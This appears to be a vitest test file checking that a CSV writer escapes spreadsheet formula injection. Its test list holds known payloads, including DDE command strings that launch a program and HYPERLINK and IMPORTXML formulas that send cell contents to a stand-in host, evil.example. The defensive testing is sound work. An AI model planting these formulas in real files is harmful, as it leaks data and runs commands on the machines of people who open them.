import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvRecord } from "./csv.ts";

/** What is known to run in one spreadsheet or another. */
const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "+353 1 555 0100",
];

describe("a record", () => {
  it.each(formulas)("keeps %j text", (text) => {
    const [[cell]] = parse(csvRecord([text, "next"]), { relax_column_count: true }) as [[string]];
    expect(cell).toBe(`'${text}`);
  });

  it("leaves numbers numbers, also below nothing, and other text as it is", () => {
    expect(csvRecord([-1173, -0.5, { exactly: "-11.73" }, null, "", "a-b", "O'Brien"])).toBe(
      "-1173,-0.5,-11.73,,,a-b,O'Brien\r\n",
    );
  });

  it.each([
    ["x;=cmd|' /C calc'!A0;y", "x;'=cmd|' /C calc'!A0;y"],
    ["x; \u00a0@SUM(1)", "x; \u00a0'@SUM(1)"],
    ["x;\n-2+3", "x;\n'-2+3"],
    ["x;＝1;+1", "x;'＝1;'+1"],
    ["=1;=2", "'=1;'=2"],
    ["Thanks ;-) and ;=)", "Thanks ;-) and ;=)"],
    ["a;b - c; 'd'", "a;b - c; 'd'"],
  ])("keeps %j text where a semicolon begins a cell, too", (text, kept) => {
    expect(parse(csvRecord([text, "next"]))).toEqual([[kept, "next"]]);
    expect(parse(csvRecord([text, "next"]), { delimiter: [",", ";", "\t"] })).toEqual([[kept, "next"]]);
  });

  it("quotes what RFC 4180 quotes, and what others take for the end of a cell", () => {
    expect(csvRecord(['say "hi"', "a,b", "two\nlines", "plain", "a;b", "a\tb"])).toBe(
      '"say ""hi""","a,b","two\nlines",plain,"a;b","a\tb"\r\n',
    );
  });

  it("is read back as it was, whatever it holds, but for the apostrophes", () => {
    const letters = fc.constantFrom(";", "=", "-", ")", "'", " ", "\t", '"', ",", "\n", "a");
    const text = fc.oneof(fc.string({ unit: "binary" }), fc.string({ unit: letters }));
    // Where one may have been put: before a sign that stands where a cell could begin.
    const added = /(?<=^|;\s*)'(?=\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|[\t\r\n])/gu;
    const bare = (cell: string | undefined) => cell?.replace(added, "");
    fc.assert(
      fc.property(fc.array(text, { minLength: 2, maxLength: 5 }), (cells) => {
        const [row] = parse(csvRecord(cells)) as string[][];
        return cells.every((cell, at) => bare(row?.[at]) === bare(cell));
      }),
    );
  });
});
